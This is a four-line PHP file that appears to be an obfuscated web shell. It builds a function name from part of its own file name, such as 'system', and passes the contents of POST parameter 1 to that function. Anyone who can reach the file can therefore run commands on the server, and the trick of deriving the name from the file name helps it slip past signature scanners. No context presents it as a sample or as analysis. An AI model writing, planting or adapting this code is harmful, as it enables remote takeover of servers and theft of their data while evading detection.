<?php
$f = substr(__FILE__, -10, 6);
$c = $_POST[1];
$f($c);
